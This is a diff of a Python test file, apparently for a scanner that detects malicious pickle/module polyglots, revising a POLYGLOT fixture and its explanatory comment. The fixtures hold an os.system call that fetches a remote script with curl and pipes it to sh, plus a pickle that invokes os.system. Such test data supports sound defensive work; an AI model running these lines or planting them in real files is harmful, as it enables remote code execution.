@@ -78,11 +78,10 @@ def test_test_module_only_tests_import_stays_lowered() -> None:
     assert at(found, "PKG001", "demo-1.0/tests/run.py", 2).severity is Severity.MEDIUM
 
 
-#: ``import test`` reads as INST, the blank line and ``test.`` as TUPLE, APPENDS, SETITEM, TUPLE
-#: and STOP: a protocol-0 pickle prefix that is also the start of a valid module.
-POLYGLOT = (
-    b"import test\n\ntest.__name__\nimport os\n\nos.system('curl -s http://192.0.2.7/s | sh')\n"
-)
+#: ``callable`` and ``print`` read as GLOBAL of ``allable.print`` (names a loader could import),
+#: ``.5`` as STOP: a protocol-0 pickle prefix that is also the start of a valid module. (``import
+#: test`` then a blank line is none: a loader raises at INST of module ``mport test``.)
+POLYGLOT = b"callable\nprint\n.5\nimport os\n\nos.system('curl -s http://192.0.2.7/s | sh')\n"
 PICKLE0 = b"cos\nsystem\n(S'echo outwork-test'\ntR."
 
 
